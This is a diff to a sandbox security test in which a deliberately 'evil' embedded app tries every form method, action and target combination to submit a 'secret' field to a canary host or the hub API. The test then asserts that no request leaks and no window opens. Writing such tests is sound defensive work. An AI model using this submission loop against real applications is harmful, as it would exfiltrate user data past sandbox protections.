@@ -47,8 +47,23 @@ for (const [name, attempt] of Object.entries(tries)) {
   catch { found[name] = "refused"; }
 }
 const form = document.createElement("form");
-form.action = canary; document.body.append(form);
-try { form.submit(); } catch {}
+form.innerHTML = `<input name="x" value="secret"><button formaction="${canary}/b">Go</button>`;
+document.body.append(form);
+for (const method of ["get", "post"]) {
+  for (const action of [canary, `${canary}/x`, `${hub}/api/apps`, location.href, ""]) {
+    for (const target of ["", "_self", "_top", "_parent", "_blank", "named"]) {
+      Object.assign(form, { method, action, target });
+      try { form.submit(); } catch {}
+      try { form.requestSubmit(); } catch {}
+      try { form.querySelector("button").click(); } catch {}
+    }
+  }
+}
+window.submits = 0;
+window.ask = () => {
+  form.onsubmit = event => { event.preventDefault(); window.submits++; };
+  form.requestSubmit(); // Enter in a field, or its button
+};
 const frame = document.createElement("iframe");
 frame.src = canary; document.body.append(frame);
 window.found = found;
@@ -120,11 +135,14 @@ async def test_an_evil_app_gets_out_nowhere(
         assert {name for name, outcome in found.items() if outcome == "WORKED"} == set()
         await ada.page.wait_for_timeout(500)
         assert canary[0].hits == []
+        assert len(ada.page.context.pages) == 1, "a form has opened a window"
+        assert await ada.in_app("Evil", "location.search") == ""
+        assert await ada.in_app("Evil", "(ask(), submits)") == 1, "a form works within the app"
         frame = ada.page.locator('iframe[title="Evil"]')
         await frame.evaluate("frame => frame.contentWindow.postMessage(1, '*')")
         await ada.page.wait_for_timeout(500)
         assert canary[0].hits == [], "it has navigated itself away"
-        assert await frame.get_attribute("sandbox") == "allow-scripts"
+        assert await frame.get_attribute("sandbox") == "allow-scripts allow-forms"
         assert await ada.in_call("call.link") == "joined"
 
 
